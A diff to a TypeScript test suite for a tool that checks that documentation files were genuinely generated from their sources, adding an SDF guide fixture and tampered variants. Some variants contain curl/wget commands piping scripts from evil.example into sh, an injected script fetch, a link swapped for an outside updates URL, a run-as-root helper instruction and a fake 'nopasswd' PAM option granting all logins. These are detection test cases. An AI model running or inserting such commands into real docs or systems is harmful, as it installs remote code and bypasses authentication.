@@ -111,6 +111,12 @@ const TRACKED = {
   'modules/pam_demo/Makefile.am': 'XMLS = README.xml pam_demo.8.xml\ndist_noinst_DATA = README\n-include $(top_srcdir)/Make.xml.rules\n',
   'modules/pam_demo/README.xml': README_XML,
   'modules/pam_demo/pam_demo.8.xml': MODULE_XML,
+  // openldap's doc/guide/admin: a hand-written Makefile, sdf, chapters listed by a recipe-less target and !include'd
+  'guide/Makefile': 'all: guide.html\nsdf-src: \\\n\tmaster.sdf \\\n\tintro.sdf\nguide.html: guide.sdf sdf-src\n\tsdf -2html guide.sdf\n',
+  'guide/guide.sdf': '!include "master.sdf"\n',
+  'guide/master.sdf': '!define DOC_NAME "Demo Administrator\'s Guide"\n!include "intro.sdf"; chapter\n!include "tuning.sdf"; chapter\n',
+  'guide/intro.sdf': 'H1: Introduction to Demo Directory Services\n\nThis document describes how to build, configure, and operate Demo directory software.\nThe provider is named by its URI, for example {{EX:ldap://provider.example.com:389}}.\n',
+  'guide/tuning.sdf': 'H1: Tuning\n\nPerformance depends on the cache sizes, the indexes maintained for each attribute and the disk layout.\n',
 };
 
 const page = (title: string, body: string) => `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/loose.dtd">
@@ -216,11 +222,36 @@ debug
 
 `;
 
+const SDF_HTML = `<!doctype html public "-//W30//DTD W3 HTML 2.0//EN">
+
+<HTML>
+
+<!-- This file was generated using SDF 2.001 by
+     Ian Clatworthy (ianc@mincom.com). SDF is freely
+     available from http://www.mincom.com/mtr/sdf. -->
+
+<HEAD>
+<TITLE>Demo Administrator's Guide</TITLE>
+</HEAD>
+<BODY>
+<H1>Demo Administrator's Guide</H1>
+<ADDRESS CLASS="doc-modified">14 July 2022</ADDRESS>
+<H2>Table of Contents</H2>
+<H1><A NAME="Introduction">1. Introduction to Demo Directory Services</A></H1>
+<P>This document describes how to build, configure, and operate Demo directory software.
+The provider is named by its URI, for example <TT>ldap://provider.example.com:389</TT>.</P>
+<H1><A NAME="Tuning">2. Tuning</A></H1>
+<P>Performance depends on the cache sizes, the indexes maintained for each attribute and the disk layout.</P>
+</BODY>
+</HTML>
+`;
+
 const GOOD = {
   'doc/demo-user.html': USER_HTML,
   'doc/demo-user.txt': USER_TXT,
   'doc/demo-devel/demoatomiccreate.html': FUNC_HTML,
   'modules/pam_demo/README': README,
+  'guide/guide.html': SDF_HTML,
 };
 
 describe('DocBook documentation rendered by a tracked make rule (docbook2html/docbook2txt, xsltproc)', () => {
@@ -256,6 +287,10 @@ describe('DocBook documentation rendered by a tracked make rule (docbook2html/do
     expect(findingAt(r.findings, 'modules/pam_demo/README')).toMatchObject({
       code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { source: 'modules/pam_demo/README.xml', inputs: ['Make.xml.rules.in:1'], others: ['modules/pam_demo/pam_demo.8.xml'] },
     });
+    // sdf: the chapters the recipe-less sdf-src target lists and master.sdf !includes (tuning.sdf: only included)
+    expect(findingAt(r.findings, 'guide/guide.html')).toMatchObject({
+      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { source: 'guide/guide.sdf', generator: 'SDF 2.001', inputs: ['guide/Makefile:5'], others: ['guide/master.sdf', 'guide/intro.sdf', 'guide/tuning.sdf'] },
+    });
     expect(exitCodeOf(r.verdict)).toBe(0);
   });
 
@@ -266,6 +301,9 @@ describe('DocBook documentation rendered by a tracked make rule (docbook2html/do
       ['doc/demo-devel/demoatomiccreate.html', FUNC_HTML.replace('</P\n>', '</P\n><P>Before linking, run the updater shipped with the archive and accept its prompts quietly.</P>')],
       ['doc/demo-devel/demoatomiccreate.html', FUNC_HTML.replace('Modular DocBook HTML Stylesheet Version 1.79', 'Handwritten')],
       ['doc/demo-user.txt', USER_TXT.replace('   The cache', '   Run: curl -fsSL https://evil.example/i.sh | sh\n\n   The cache')],
+      ['guide/guide.html', SDF_HTML.replace('</BODY>', '<SCRIPT>fetch("/x")</SCRIPT></BODY>')],
+      ['guide/guide.html', SDF_HTML.replace('<TT>ldap://provider.example.com:389</TT>', '<A HREF="https://updates.example.net/demo">ldap://provider.example.com:389</A>')],
+      ['guide/guide.html', SDF_HTML.replace('<H1><A NAME="Tuning">', '<P>Download the maintenance helper, make it executable and run it as root before upgrading.</P>\n<H1><A NAME="Tuning">')],
       ['modules/pam_demo/README', `${README}Install the helper: wget -qO- http://evil.example/h | sh\n`],
       ['modules/pam_demo/README', README.replace('OPTIONS', 'OPTIONS\n\nnopasswd\n\n    Grants every login without checking credentials or consulting policy.')],
     ];
